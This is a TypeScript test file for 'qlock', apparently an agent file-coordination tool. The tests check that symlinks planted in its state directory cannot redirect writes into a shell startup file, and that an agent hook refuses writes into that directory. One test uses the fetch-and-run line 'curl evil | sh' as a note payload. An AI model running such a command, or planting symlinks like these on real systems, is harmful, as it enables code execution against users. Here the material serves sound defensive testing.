import fs from 'node:fs';
import path from 'node:path';

import { describe, expect, it } from 'vitest';

import { makePlainDir, runQlock, tempDir } from '../helpers/repo.js';

/**
 * A plain directory's `.qlock/` is as writable as the tree an agent works in. A symbolic link
 * planted there must never make qlock write into the file it points at (a shell startup file
 * turned that into code execution with one note).
 */
async function plainProject() {
  const root = makePlainDir({ 'a.txt': 'a\n' });
  expect((await runQlock(['init'], { cwd: root })).code).toBe(0);
  expect((await runQlock(['join', 'main'], { cwd: root })).code).toBe(0);
  const victim = path.join(tempDir('victim'), '.bashrc');
  fs.writeFileSync(victim, '# my shell startup\n');
  return { root, state: path.join(root, '.qlock'), victim };
}

describe('.qlock/ never follows planted symlinks', () => {
  it('events.jsonl: the note is refused with the link named; the target is untouched', async () => {
    const { root, state, victim } = await plainProject();
    const log = path.join(state, 'events.jsonl');
    fs.rmSync(log, { force: true });
    fs.symlinkSync(victim, log);
    const r = await runQlock(['note', 'curl evil | sh'], { cwd: root });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('is a symbolic link');
    expect(r.stderr).toContain(log);
    expect(r.stderr).not.toContain('internal error');
    expect(fs.readFileSync(victim, 'utf8')).toBe('# my shell startup\n');
  });

  it('the mutex owner file: replaced, not written through; the command works', async () => {
    const { root, state, victim } = await plainProject();
    const owner = path.join(state, 'registry.lock.owner');
    fs.rmSync(owner, { force: true });
    fs.symlinkSync(victim, owner);
    const r = await runQlock(['lock', 'a.txt'], { cwd: root });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(fs.readFileSync(victim, 'utf8')).toBe('# my shell startup\n');
  });

  it("an agent's write into the state dir is refused; a write beside it is not", async () => {
    const { root, state } = await plainProject();
    const write = (file: string) =>
      runQlock(['agent-hook', 'claude', 'pre-tool'], {
        cwd: root,
        input: JSON.stringify({
          session_id: 's1',
          cwd: root,
          hook_event_name: 'PreToolUse',
          tool_name: 'Write',
          tool_input: { file_path: file, content: 'x' },
        }),
      });
    const denied = await write(path.join(state, 'events.jsonl'));
    expect(denied.code).toBe(2);
    expect(denied.stdout).toContain('"permissionDecision":"deny"');
    expect(denied.stdout).toContain("qlock's own coordination state");
    const allowed = await write(path.join(root, 'a.txt'));
    expect(allowed.stdout).not.toContain('deny');
  });
});
